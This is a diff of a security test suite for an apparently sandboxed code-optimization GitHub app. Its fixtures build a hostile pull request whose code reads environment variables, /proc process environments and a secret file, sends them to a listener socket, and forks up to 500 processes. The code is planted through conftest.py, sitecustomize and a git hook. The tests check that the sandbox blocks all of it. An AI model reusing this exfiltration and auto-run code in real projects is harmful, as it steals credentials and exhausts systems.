@@ -24,8 +24,14 @@ import socket
 import time
 
 
+DONE = []
+
+
 def attack():
-    """All that one may try."""
+    """All that one may try, once in each process."""
+    if DONE:
+        return ""
+    DONE.append(True)
     loot = [repr(dict(os.environ))]
     for name in [*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"), SECRET_FILE, "/proc/1/environ"]:
         try:
@@ -44,10 +50,10 @@ def attack():
             there.sendall(repr(loot).encode())
     except OSError:
         pass
-    for _ in range(30):
+    for _ in range(FORKS):
         try:
             if os.fork() == 0:
-                time.sleep(20)
+                time.sleep(5)
                 os._exit(0)
         except OSError:
             break
@@ -64,7 +70,7 @@ def test_total():
     assert total([1, 2, 3]) == 6
     print(LOOT)
 """
-PLANTED = "import os\nopen(OUTSIDE + '/' + __name__, 'w').close()\n"
+PLANTED = "try:\n    open(OUTSIDE + '/' + __name__, 'w').close()\nexcept OSError:\n    pass\n"
 
 
 class Listener:
@@ -104,12 +110,15 @@ def listener():
 
 @pytest.fixture
 def places(tmp_path, listener):
-    """A folder that nobody may write to, and a file that nobody may read; both could be by whoever runs the tests."""
+    """``places(forks)``: a folder that nobody may write to, and what the attack knows of this machine.
+
+    The folder, and a file with a secret, are open to whoever runs the tests.
+    """
     outside, secret = tmp_path / "outside", tmp_path / "secret.pem"
     outside.mkdir()
     secret.write_text(SECRET)
     head = f"OUTSIDE = {str(outside)!r}\nSECRET_FILE = {str(secret)!r}\nPORT = {listener.port}\n"
-    return outside, head
+    return lambda forks: (outside, f"{head}FORKS = {forks}\n")
 
 
 def propose(world, head):
@@ -124,7 +133,14 @@ def propose(world, head):
     project.write(
         "conftest.py", "import sys\nsys.path.insert(0, 'src')\nfrom attack import attack\nattack()\n"
     )
-    for name in ("codeflash_cli", "attrs", "json", "sitecustomize", "usercustomize", "codeflash_core"):
+    for name in (
+        "codeflash_cli",
+        "codeflash_core",
+        "codeflash_github_app",
+        "sitecustomize",
+        "usercustomize",
+        "tomllib",
+    ):
         project.write(f"{name}.py", head + PLANTED)
     script = f"#!/bin/sh\ntouch {head.splitlines()[0].partition(' = ')[2][1:-1]}/$(basename $0)\n"
     for name in (".venv/bin/python", "evil.sh", ".githooks/post-checkout"):
@@ -149,7 +165,7 @@ def propose(world, head):
 
 def test_the_attack_works_where_nobody_stands_in_its_way(places, listener, tmp_path):
     """Otherwise the other test would prove nothing."""
-    outside, head = places
+    outside, head = places(2)
     script = tmp_path / "attack.py"
     script.write_text(head + ATTACK + "\nassert 's3cr3t' in attack()\n")
     done = subprocess.Popen([sys.executable, "-I", str(script)], start_new_session=True)
@@ -158,21 +174,26 @@ def test_the_attack_works_where_nobody_stands_in_its_way(places, listener, tmp_p
     assert SECRET.encode() in listener.heard[0]
 
 
-async def test_a_hostile_pull_request_gets_nothing(world, places, listener, monkeypatch):
+@pytest.mark.parametrize("forks", [2, 500])
+async def test_a_hostile_pull_request_gets_nothing(world, places, listener, monkeypatch, forks):
     monkeypatch.setenv("GITHUB_TOKEN", SECRET)
     monkeypatch.setenv("CODEFLASH_APP_WEBHOOK_SECRET", SECRET)
-    outside, head = places
+    outside, head = places(forks)
     world.write_base(".codeflash.toml", "[github]\nbudget = '5s'\n")
     number = propose(world, head)
     ended = await world.run(world.order(number), host=world.host(Engine(world.folder)))
 
     (check,) = world.github.checks
-    (result,) = ended["result"]["optimize"]["results"]
-    # The engine was at work on all of this, in its sandbox.
-    assert result["target"] == "src/shop/stock.py::total"
-    assert ended["result"]["optimize"]["sandbox"].startswith("bubblewrap")
-    assert check["conclusion"] in ("success", "neutral")
+    assert (check["status"], check["conclusion"] in ("success", "neutral")) == ("completed", True)
     assert "because of the signs in its name" in check["output"]["summary"]
+    if forks == 2:
+        # The engine was at work on all of this, in its sandbox.
+        results = {each["target"]: each for each in ended["result"]["optimize"]["results"]}
+        assert set(results) == {"src/attack.py::attack", "src/shop/stock.py::total"}
+        assert results["src/shop/stock.py::total"]["evidence"]["calls"] > 0
+        assert ended["result"]["optimize"]["sandbox"].startswith("bubblewrap")
+    else:
+        assert "the workload can't be run (processes)" in check["output"]["title"]
 
     assert list(outside.iterdir()) == []
     assert not (world.folder / "written").exists()
